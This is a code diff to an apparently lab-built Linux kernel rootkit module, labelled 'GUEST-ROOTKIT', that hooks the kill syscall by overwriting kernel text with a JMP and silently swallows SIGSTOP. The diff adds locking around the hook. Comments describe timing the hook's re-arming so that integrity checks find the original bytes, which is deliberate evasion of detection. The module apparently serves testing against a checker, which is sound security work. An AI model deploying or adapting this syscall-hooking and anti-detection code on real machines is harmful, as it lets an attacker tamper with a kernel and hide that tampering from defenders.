@@ -66,6 +66,7 @@
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
+#include <linux/mutex.h>
 #include <linux/pid.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
@@ -441,6 +442,11 @@ static u8 *oneshot_at, oneshot_saved[5];
 static unsigned long oneshot_fired; /* jiffies of the last call through the hook */
 
 static u8 oneshot_jmp[5] = {0xe9};
+/* The hook's bytes change only under this lock, and the JMP goes back only while the
+ * thread runs (a kill in flight when it ended armed the hook again for good, and ftrace
+ * then found a JMP where it expected its NOP) */
+static DEFINE_MUTEX(oneshot_lock);
+static bool oneshot_active;
 
 /* Only SIGSTOP is swallowed (the lab's checker sends itself other signals all the time):
  * any other kill runs the real function between putting the bytes back and the JMP again */
@@ -450,13 +456,16 @@ static long oneshot_kill(const struct pt_regs *regs)
 		(void *)(oneshot_at - (oneshot_at[-4] == 0xf3 ? 4 : 0));
 	long rc = 0;
 
+	mutex_lock(&oneshot_lock);
 	write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
 	if (regs->si == SIGSTOP) {
 		WRITE_ONCE(oneshot_fired, jiffies);
-		return 0;
+	} else {
+		rc = real(regs);
+		if (oneshot_active)
+			write_text(oneshot_at, oneshot_jmp, sizeof(oneshot_jmp));
 	}
-	rc = real(regs);
-	write_text(oneshot_at, oneshot_jmp, sizeof(oneshot_jmp));
+	mutex_unlock(&oneshot_lock);
 	return rc;
 }
 
@@ -465,21 +474,29 @@ static int oneshot_fn(void *data)
 	unsigned long arms = 0;
 	u8 *jmp = oneshot_jmp;
 
+	mutex_lock(&oneshot_lock);
 	oneshot_at = after_endbr("__x64_sys_kill");
 	memcpy(oneshot_saved, oneshot_at, sizeof(oneshot_saved));
 	*(s32 *)(jmp + 1) = (s32)((long)oneshot_kill - (long)(oneshot_at + 5));
+	oneshot_active = true;
+	mutex_unlock(&oneshot_lock);
 	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
 		/* armed: the JMP is there. Taken out by a check: armed again at once; taken out by
 		 * its own call: only after 200 ms, so whoever looks right after that call finds
 		 * the text as it was */
+		mutex_lock(&oneshot_lock);
 		if (memcmp(oneshot_at, jmp, sizeof(oneshot_jmp)) != 0 &&
 		    time_after(jiffies, READ_ONCE(oneshot_fired) + HZ / 5) &&
 		    write_text(oneshot_at, jmp, sizeof(oneshot_jmp)) == 0)
 			arms++;
+		mutex_unlock(&oneshot_lock);
 		usleep_range(1000, 2000);
 	}
+	mutex_lock(&oneshot_lock);
+	oneshot_active = false;
 	if (memcmp(oneshot_at, jmp, sizeof(oneshot_jmp)) == 0)
 		write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
+	mutex_unlock(&oneshot_lock);
 	pr_notice("GUEST-ROOTKIT oneshot-done arms=%lu\n", arms);
 	return 0;
 }
